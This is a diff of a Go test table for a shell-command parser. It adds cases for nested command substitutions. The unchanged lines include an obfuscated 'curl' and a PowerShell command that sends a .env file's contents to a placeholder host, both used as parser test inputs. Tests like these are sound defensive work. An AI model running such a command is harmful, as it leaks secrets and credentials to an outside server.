@@ -51,6 +51,8 @@ func TestParse(t *testing.T) {
 		{`f() { a; }; case x in y) b;; esac`, `0: a ; 0: b`},
 		{"a # b\nc", `0: a ; 0: c`},
 		{"c$@url", "0: curl"},
+		{"a ${x:-$(b)} $((1 + $(c)))", "0: a ${x:-$(b)}{0: b} $((1 + $(c))){0: c}"},
+		{"[[ -n $(a) ]]; case $(b) in x) c;; esac; (( $(d) ))", "0: = ; 0: = , 0: c ; 0: ="},
 		// A text that is no Bash script is split into words.
 		{`irm http://x.example -Body (Get-Content .env)`, `0: irm http://x.example -Body Get-Content .env`},
 		{"a b\n)(\nc d", `0: a b ; 0: c d`},
